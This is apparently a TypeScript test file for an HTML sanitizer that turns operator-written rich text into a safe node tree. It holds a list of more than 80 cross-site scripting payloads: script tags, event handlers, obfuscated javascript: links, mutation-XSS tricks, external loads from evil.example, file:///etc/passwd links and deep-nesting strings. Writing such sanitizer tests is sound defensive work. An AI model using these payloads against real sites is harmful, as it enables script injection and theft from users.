import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { plainText, type RichNode, richText } from './rich-text.ts';

/** As a page would show it, for reading here. */
const drawn = (nodes: readonly RichNode[]): string =>
  nodes
    .map((node) =>
      typeof node === 'string'
        ? node
        : `<${node.tag}${node.href ? ` ${node.href}` : ''}>${drawn(node.children)}</${node.tag}>`,
    )
    .join('');

describe('what an operator may write', () => {
  test.each([
    ['plain words', 'plain words'],
    ['<b>Everything</b> in <i>one</i>', '<b>Everything</b> in <i>one</i>'],
    ['one<br>two<br/>three', 'one<br></br>two<br></br>three'],
    ['<ul><li>a<li>b</ul>c', '<ul><li>a</li><li>b</li></ul>c'],
    ['<ul><li>a<ul><li>b</li></ul></li></ul>', '<ul><li>a<ul><li>b</li></ul></li></ul>'],
    ['<a href="/info/terms">Terms</a>', '<a /info/terms>Terms</a>'],
    [
      "<a class=x href='https://help.example/a?b=1&amp;c=2'>Help</a>",
      '<a https://help.example/a?b=1&c=2>Help</a>',
    ],
    ['<a href="/a">one <a href="/b">two</a>', '<a /a>one </a><a /b>two</a>'],
    ['<div><span style="color:red">red</span></div>', 'red'],
    ['<B>loud</B>', '<b>loud</b>'],
    ['5 &lt; 6 &amp; 7 &euro; &#8364; &#x20AC;', '5 < 6 & 7 € € €'],
    ['5 < 6 and 7 > 2', '5 < 6 and 7 > 2'],
    ['</b>stray<b>open', 'stray<b>open</b>'],
    ['a<!-- not said -->b', 'ab'],
    ['a > b <p title="1 > 0">c</p>', 'a > b <p>c</p>'],
    ["it’s <b>don't</b>", "it’s <b>don't</b>"],
    ['&unknown; & alone', '&unknown; & alone'],
  ])('%s', (html, expected) => expect(drawn(richText(html))).toBe(expected));

  test('the words alone', () => {
    expect(plainText('<p>One</p><p>two <b>three</b></p><ul><li>a</li><li>b</li></ul>')).toBe(
      'One two three a b',
    );
  });
});

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
  '<script/src="//evil.example/x.js">',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\x20type="text/javascript">javascript:alert(1);</script>',
  '<script>alert(1)',
  '<<SCRIPT>alert(1);//<</SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" />',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC=javascript:alert(1)>',
  '<img src=x:alert(alt) onerror=eval(src) alt=1>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<math><mtext></form><form><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<math href="javascript:alert(1)">x</math>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)></textarea>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<link rel=stylesheet href=https://evil.example/x.css>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<b onmouseover=alert(1)>x</b>',
  '<b/onclick=alert(1)>x</b>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="java&#09;script:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="blob:https://x.example/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\t/evil.example">x</a>',
  '<a href="https://ours.example@evil.example/">x</a>',
  '<a href="https:evil.example">x</a>',
  '<a href="http://evil.example">x</a>',
  '<a href=javascript:alert(1) href="/fine">x</a>',
  '<a title="href=/fine" href="javascript:alert(1)">x</a>',
  '<a href=\'javascript:alert("1")\'>x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a target=_blank onclick=alert(1) href="view-source:javascript:alert(1)">x</a>',
  '<template><img src=x onerror=alert(1)></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<plaintext><script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)',
  '<b><script>alert(1)</b></script>',
  '<p><style></p><img src=x onerror=alert(1)></style>',
  `${'<b>'.repeat(5000)}deep`,
  '<'.repeat(5000),
  '<a href="'.repeat(2000),
  '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<b __proto__=1 constructor=2>x</b>',
  '<__proto__>x</__proto__>',
];

const known = new Set([
  'b',
  'strong',
  'i',
  'em',
  'u',
  's',
  'small',
  'sub',
  'sup',
  'br',
  'p',
  'ul',
  'ol',
  'li',
  'a',
]);

/** What is wrong with a tree: a forbidden element, an undeclared property, an address that runs or misleads. */
function harm(nodes: readonly RichNode[], depth = 0): string[] {
  if (depth > 20) return ['too deep'];
  return nodes.flatMap((node) => {
    if (typeof node === 'string') return [];
    const { tag, href, children, ...more } = node;
    return [
      ...(known.has(tag) ? [] : [`<${tag}>`]),
      ...Object.keys(more),
      ...(href === undefined || (tag === 'a' && /^(?:https:\/\/[^@\\\s]+|\/(?![/\\])[^\\\s]*)$/.test(href))
        ? []
        : [href]),
      ...harm(children, depth + 1),
    ];
  });
}

describe('what rich text never lets through', () => {
  test('is tried in many ways', () => expect(hostile.length).toBeGreaterThan(80));

  test.each(hostile)('%s', (payload) => {
    expect(harm(richText(payload))).toEqual([]);
    expect(harm(richText(`<p>before ${payload} after</p>`))).toEqual([]);
  });

  test('no link survives of those that run or mislead', () => {
    const links = hostile.filter((payload) => /^<a[^>]*href/.test(payload) && !payload.includes('/fine'));
    expect(links.flatMap((payload) => drawn(richText(payload)).match(/<a \S+>/g) ?? [])).toEqual([]);
  });

  test('in any mixture', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom('<', '>', '"', "'", '</a>', '<li>', '<ul>'),
      fc.string(),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expect(harm(richText(pieces.join('')))).toEqual([]);
      }),
    );
  });

  test('and its length is bounded', () => {
    expect(drawn(richText('x'.repeat(1_000_000))).length).toBe(20_000);
  });
});
